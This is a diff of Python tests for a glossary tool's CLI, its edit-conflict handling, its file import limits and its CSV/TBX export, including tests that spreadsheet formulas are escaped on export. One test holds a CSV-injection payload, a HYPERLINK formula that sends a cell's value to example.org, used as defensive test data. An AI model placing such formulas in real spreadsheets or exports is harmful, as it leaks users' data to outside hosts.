@@ -5,29 +5,35 @@ from __future__ import annotations
 import csv
 import importlib.util
 import json
+import multiprocessing
 import tempfile
 from pathlib import Path
+from typing import Any
 
 import pytest
 from click.testing import CliRunner
-from hypothesis import given, settings
+from hypothesis import example, given, settings
 from hypothesis import strategies as st
 
 from workbench.lifecycle import create_workspace
 from workbench.cli import cli
 from workbench.formats import export_file, import_file, load_bundled
-from workbench.formats.glossary_csv import read_csv, write_csv
+from workbench.formats.common import GLOSSARY_MAX_BYTES
+from workbench.formats.glossary_csv import escape_cell, read_csv, unescape_cell, write_csv
 from workbench.formats.glossary_tbx import read_tbx, write_tbx
 from workbench.glossary import (
     Glossary,
     GlossaryError,
     Rendering,
     Term,
+    TermConflictError,
     add_term,
     edit_term,
     get_term,
     list_terms,
+    rebased_edit,
     remove_term,
+    save_edited_term,
 )
 from workbench.workspace import Workspace
 
@@ -112,6 +118,107 @@ def test_from_store_reuses_matchers_until_the_glossary_changes(empty: Workspace)
     assert second.terms[0].rendering("es") == "expolio"
 
 
+def test_every_write_of_a_term_bumps_its_version(empty: Workspace, tmp_path: Path) -> None:
+    store = empty.store
+    assert add_term(store, "plunder", renderings={"es": Rendering("saqueo")}).version == 1
+    assert edit_term(store, "plunder", notes="used in every statement").version == 2
+    path = tmp_path / "es.csv"
+    path.write_text("term,es\nplunder,expolio\n", encoding="utf-8")
+    import_file(store, path, LOCALES)
+    assert get_term(store, "plunder").version == 3
+
+
+def _add_variants_from_the_cli(root: str, prefix: str, edits: int, start: Any) -> list[int]:
+    """Run ``glossary edit plunder --add-variants es=<prefix><n>`` ``edits`` times, as a script would.
+
+    ``start`` is a barrier the other process waits at too, so the runs overlap.
+    """
+    runner = CliRunner()
+    start.wait()
+    return [runner.invoke(cli, ["-w", root, "glossary", "edit", "plunder", "--add-variants", f"es={prefix}{number}"]).exit_code
+            for number in range(edits)]
+
+
+def test_cli_edits_run_at_the_same_time_by_two_processes_all_take_effect(empty: Workspace) -> None:
+    add_term(empty.store, "plunder", renderings={"es": Rendering("saqueo")})
+    edits = 25
+    spawn = multiprocessing.get_context("spawn")
+    with spawn.Manager() as manager, spawn.Pool(2) as pool:
+        start = manager.Barrier(2)
+        codes = pool.starmap(_add_variants_from_the_cli, [(str(empty.root), prefix, edits, start) for prefix in "ab"])
+    assert codes == [[0] * edits, [0] * edits]
+    plunder = get_term(empty.store, "plunder")
+    assert sorted(plunder.renderings["es"].variants) == sorted(f"{prefix}{n}" for prefix in "ab" for n in range(edits))
+    assert plunder.version == 1 + 2 * edits
+
+
+def test_a_cli_edit_changes_only_the_fields_it_names(empty: Workspace) -> None:
+    add_term(empty.store, "plunder", renderings={"es": Rendering("saqueo", ["expolio"], ["robo"])})
+    base = ["-w", str(empty.root), "glossary", "edit", "plunder"]
+    runner = CliRunner()
+    assert runner.invoke(cli, [*base, "--add-variants", "es=pillaje; expolio", "--add-forbidden", "es=hurto"]).exit_code == 0
+    assert runner.invoke(cli, [*base, "--render", "es=despojo", "--add-patterns", "es=saque*"]).exit_code == 0
+    assert get_term(empty.store, "plunder").renderings["es"] == Rendering(
+        "despojo", ["expolio", "pillaje"], ["robo", "hurto"], ["saque*"], True)
+    result = runner.invoke(cli, [*base, "--add-variants", "id=penjarahan"])
+    assert result.exit_code == 2
+    assert result.output.count("\n") == 1 and "a rendering needs a preferred text" in result.output
+
+
+def test_a_form_edit_keeps_what_someone_else_changed_meanwhile_in_other_fields(empty: Workspace) -> None:
+    store = empty.store
+    loaded = add_term(store, "plunder", notes="old note", renderings={"es": Rendering("saqueo"), "tl": Rendering("pandarambong")})
+    edit_term(store, "plunder", kind="slogan", renderings={"es": Rendering("saqueo", ["expolio"])})
+    edited = Term(loaded.id, "plunder", notes="new note", renderings={"es": Rendering("despojo"), "fr_CA": Rendering("pillage")})
+
+    saved = save_edited_term(store, loaded, edited, LOCALES)
+
+    assert (saved.notes, saved.kind, saved.version) == ("new note", "slogan", 3)
+    assert saved.renderings == {"es": Rendering("despojo", ["expolio"]), "fr_CA": Rendering("pillage")}
+
+
+def test_a_rebased_form_edit_takes_in_what_only_the_other_side_changed() -> None:
+    loaded = Term(7, "plunder", notes="old", kind="concept", version=1, renderings={"es": Rendering("saqueo")})
+    current = Term(7, "plunder", notes="theirs", kind="slogan", version=2, renderings={"es": Rendering("saqueo", ["expolio"])})
+    edited = Term(7, "plunder", notes="mine", kind="concept", renderings={"es": Rendering("saqueo"), "id": Rendering("penjarahan")})
+
+    mine = rebased_edit(loaded, edited, current, LOCALES)
+    theirs = rebased_edit(loaded, edited, current, LOCALES, keep_theirs=True)
+
+    assert (mine.notes, mine.kind, mine.version) == ("mine", "slogan", 2)
+    assert theirs.notes == "theirs"
+    for rebased in (mine, theirs):
+        assert rebased.renderings == {"es": Rendering("saqueo", ["expolio"]), "id": Rendering("penjarahan")}
+
+
+def test_a_form_edit_of_a_field_someone_else_changed_meanwhile_is_refused_with_both_values(empty: Workspace) -> None:
+    store = empty.store
+    loaded = add_term(store, "plunder", notes="old note", renderings={"es": Rendering("saqueo")})
+    edit_term(store, "plunder", notes="their note", renderings={"es": Rendering("expolio")})
+    edited = get_term(store, "plunder")
+    edited.notes, edited.renderings = "my note", {"es": Rendering("pillaje"), "id": Rendering("penjarahan")}
+
+    with pytest.raises(TermConflictError) as conflict:
+        save_edited_term(store, loaded, edited, LOCALES)
+
+    assert [(c.label, c.theirs, c.mine) for c in conflict.value.conflicts] == [
+        ("notes", "their note", "my note"), ("es preferred", "expolio", "pillaje")]
+    assert "changed by someone else meanwhile (now version 2) in notes, es preferred" in str(conflict.value)
+    unchanged = get_term(store, "plunder")
+    assert (unchanged.notes, unchanged.version, set(unchanged.renderings)) == ("their note", 2, {"es"})
+    # the same change made on both sides is no conflict
+    edited.notes, edited.renderings = "their note", {"es": Rendering("expolio"), "id": Rendering("penjarahan")}
+    assert set(save_edited_term(store, loaded, edited, LOCALES).renderings) == {"es", "id"}
+
+
+def test_a_form_edit_of_a_term_deleted_meanwhile_says_so(empty: Workspace) -> None:
+    loaded = add_term(empty.store, "plunder")
+    remove_term(empty.store, "plunder")
+    edited = Term(loaded.id, "plunder", notes="my note")
+    with pytest.raises(GlossaryError, match="'plunder' was deleted by someone else meanwhile: cancel, and add it again"):
+        save_edited_term(empty.store, loaded, edited, LOCALES)
+
+
 # -- CSV and TBX ---------------------------------------------------------------------------------
 
 
@@ -136,6 +243,33 @@ def test_round_trip_keeps_every_field(empty: Workspace, tmp_path: Path, suffix: 
     again = tmp_path / f"again{suffix}"
     export_file(other.store, again, LOCALES)
     assert again.read_bytes() == path.read_bytes()
+
+
+FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
+"""What OWASP's CSV-injection advice says a spreadsheet may run as a formula at the start of a cell."""
+
+
+def exported_cells(path: Path) -> list[str]:
+    with path.open(encoding="utf-8", newline="") as handle:
+        return [cell for row in list(csv.reader(handle))[1:] for cell in row]
+
+
+def test_cells_a_spreadsheet_would_run_as_formulas_are_exported_as_text_and_imported_back(empty: Workspace, tmp_path: Path) -> None:
+    hyperlink = '=HYPERLINK("http://example.org/?leak="&A1,"click")'
+    add_term(empty.store, "plunder", kind="@SUM(A1:A9)", notes=hyperlink,
+             renderings={"es": Rendering("+saqueo", ["-expolio"]), "id": Rendering("'=penjarahan")})
+    path = tmp_path / "glossary.csv"
+    export_file(empty.store, path, LOCALES)
+
+    cells = exported_cells(path)
+    assert not [cell for cell in cells if cell.startswith(FORMULA_STARTS)]
+    assert {"'" + hyperlink, "'@SUM(A1:A9)", "'+saqueo", "'-expolio", "''=penjarahan"} <= set(cells)
+
+    before = get_term(empty.store, "plunder")
+    remove_term(empty.store, "plunder")
+    import_file(empty.store, path, LOCALES)
+    after = get_term(empty.store, "plunder")
+    assert (after.kind, after.notes, after.renderings) == (before.kind, before.notes, before.renderings)
 
 
 def test_import_merges_without_erasing_other_languages_or_fields_the_file_has_no_column_for(empty: Workspace, tmp_path: Path) -> None:
@@ -291,6 +425,100 @@ def test_broken_xml_and_non_tbx_are_refused(empty: Workspace, tmp_path: Path) ->
         import_file(empty.store, spreadsheet, LOCALES)
     with pytest.raises(GlossaryError, match="missing.tbx: no such file: check the path"):
         import_file(empty.store, tmp_path / "missing.tbx", LOCALES)
+
+
+@pytest.mark.parametrize(
+    ("name", "content", "message"),
+    [
+        ("latin1.csv", b"term,es\nplunder,saqueo\nhunger,hambre\ncaf\xe9,x\n",
+         "latin1.csv, line 4: not UTF-8 text (byte 0xe9): save the CSV as UTF-8"),
+        ("bom.csv", b"\xef\xbb\xbfterm,es\n\xff,x\n", "bom.csv, line 2: not UTF-8 text (byte 0xff)"),
+        ("tags.tbx", b'<?xml version="1.0"?>\n<martif>\n<text></martif>\n',
+         "tags.tbx, line 3, column 9: not well-formed XML (mismatched tag): export the glossary again"),
+        ("klingon.tbx", b'<?xml version="1.0" encoding="x-klingon"?>\n<martif/>\n',
+         "klingon.tbx, line 1: unknown encoding: x-klingon: export the glossary again as UTF-8"),
+    ],
+)
+def test_unreadable_glossary_files_are_refused_in_one_line_that_names_the_line(
+        empty: Workspace, tmp_path: Path, name: str, content: bytes, message: str) -> None:
+    path = tmp_path / name
+    path.write_bytes(content)
+    with pytest.raises(GlossaryError) as refused:
+        import_file(empty.store, path, LOCALES)
+    assert str(refused.value).startswith(message)
+    assert "\n" not in str(refused.value)
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".tbx"])
+def test_a_glossary_file_over_the_size_limit_is_refused_before_it_is_parsed(empty: Workspace, tmp_path: Path, suffix: str) -> None:
+    path = tmp_path / f"huge{suffix}"
+    with path.open("w", encoding="utf-8") as handle:  # broken from its first line: only the size may be reported
+        handle.write('term,"es\n' if suffix == ".csv" else "<martif><text>\n")
+        handle.writelines(f"term number {number},término número {number}\n" for number in range(160_000))
+    size = path.stat().st_size
+    assert size > GLOSSARY_MAX_BYTES
+
+    with pytest.raises(GlossaryError) as refused:
+        import_file(empty.store, path, LOCALES)
+    assert str(refused.value) == (f"huge{suffix}: {size / 1e6:.1f} MB ({size:,} bytes) is over the 5 MB limit for glossary "
+                                  "files: split it into smaller files, or raise glossary_max_mb under [limits] in workbench.toml")
+
+    result = CliRunner().invoke(cli, ["-w", str(empty.root), "glossary", "import", str(path)])
+    assert result.exit_code == 2
+    assert result.output.startswith("error: ") and result.output.count("\n") == 1 and f"{size:,} bytes" in result.output
+    assert list_terms(empty.store) == []
+
+
+def test_the_glossary_size_limit_can_be_set_per_import(empty: Workspace, tmp_path: Path) -> None:
+    path = tmp_path / "small.csv"
+    path.write_text("term,es\nplunder,saqueo\n", encoding="utf-8")
+    with pytest.raises(GlossaryError, match=r"small.csv: 0.0 MB \(23 bytes\) is over the .* MB limit"):
+        import_file(empty.store, path, LOCALES, max_bytes=22)
+    assert import_file(empty.store, path, LOCALES, max_bytes=23).added == 1
+
+
+def test_glossary_import_takes_its_size_limit_from_the_workspace_settings(empty: Workspace, tmp_path: Path) -> None:
+    assert empty.limits.glossary_max_mb == 5
+    path = tmp_path / "terms.csv"
+    path.write_text("term,es\n" + "".join(f"term {n},término {n}\n" for n in range(1000)), encoding="utf-8")
+    with empty.config_path.open("a", encoding="utf-8") as config:
+        config.write("\n[limits]\nglossary_max_mb = 0.01\n")
+    base = ["-w", str(empty.root), "glossary", "import", str(path)]
+
+    refused = CliRunner().invoke(cli, base)
+    assert refused.exit_code == 2
+    assert "is over the 0.01 MB limit for glossary files" in refused.output and refused.output.count("\n") == 1
+
+    empty.config_path.write_text(empty.config_path.read_text(encoding="utf-8").replace("0.01", "1"), encoding="utf-8")
+    assert "1000 terms added" in CliRunner().invoke(cli, base).output
+
+    empty.config_path.write_text(empty.config_path.read_text(encoding="utf-8").replace("= 1", "= -1"), encoding="utf-8")
+    wrong = CliRunner().invoke(cli, base)
+    assert wrong.exit_code == 2
+    assert "[limits] glossary_max_mb must be a number of megabytes above 0, e.g. glossary_max_mb = 5" in wrong.output
+
+
+@pytest.mark.parametrize("suffix", [".csv", ".tbx"])
+def test_an_interrupted_glossary_export_leaves_the_previous_file_whole(
+        empty: Workspace, tmp_path: Path, suffix: str, monkeypatch: pytest.MonkeyPatch) -> None:
+    add_term(empty.store, "plunder", renderings={"es": Rendering("saqueo")})
+    path = tmp_path / "out" / f"glossary{suffix}"
+    export_file(empty.store, path, LOCALES)
+    before = path.read_bytes()
+    add_term(empty.store, "looting", renderings={"es": Rendering("pillaje")})
+
+    def crash(source: object, target: object) -> None:
+        raise OSError("disk unplugged")
+
+    monkeypatch.setattr("workbench.formats.common.os.replace", crash)
+    with pytest.raises(OSError, match="disk unplugged"):
+        export_file(empty.store, path, LOCALES)
+    assert path.read_bytes() == before
+    assert [p.name for p in path.parent.iterdir()] == [path.name]  # no temporary file left behind
+
+    monkeypatch.undo()
+    assert export_file(empty.store, path, LOCALES) == 2
+    assert b"looting" in path.read_bytes()
 
 
 # -- the bundled glossary --------------------------------------------------------------------------
@@ -538,3 +766,26 @@ def test_any_glossary_survives_a_file_round_trip(terms: list[Term], suffix: str)
         read, skipped = (read_csv if suffix == ".csv" else read_tbx)(path, LOCALES)
     assert skipped == set()
     assert [t.to_dict() for t in read] == [t.to_dict() for t in terms]
+
+
+FORMULA_TEXT = st.tuples(st.sampled_from(["", *FORMULA_STARTS, "'", "'=", "''-", "'@", "'\t"]), st.text()).map("".join)
+
+
+@settings(max_examples=300, deadline=None)
+@given(FORMULA_TEXT)
+def test_any_text_survives_cell_escaping_and_never_starts_a_cell_with_a_formula(text: str) -> None:
+    assert not escape_cell(text).startswith(FORMULA_STARTS)
+    assert unescape_cell(escape_cell(text)) == text
+
+
+@settings(max_examples=100, deadline=None)
+@given(st.lists(FORMULA_TEXT.map(str.strip).filter(bool), min_size=1, max_size=4, unique=True))
+@example(['=HYPERLINK("http://example.org/","click")', "'=quoted already", "line\rbreak", "-"])
+def test_any_text_survives_a_glossary_csv_export_and_import(texts: list[str]) -> None:
+    terms = [Term(0, text, kind=text, notes=text, renderings={"es": Rendering(text)}) for text in texts]
+    with tempfile.TemporaryDirectory() as folder:
+        path = Path(folder) / "glossary.csv"
+        path.write_text(write_csv(terms, LOCALES), encoding="utf-8", newline="")
+        assert not [cell for cell in exported_cells(path) if cell.startswith(FORMULA_STARTS)]
+        read, _ = read_csv(path, LOCALES)
+    assert [(t.term, t.kind, t.notes, t.renderings["es"].preferred) for t in read] == [(text,) * 4 for text in texts]
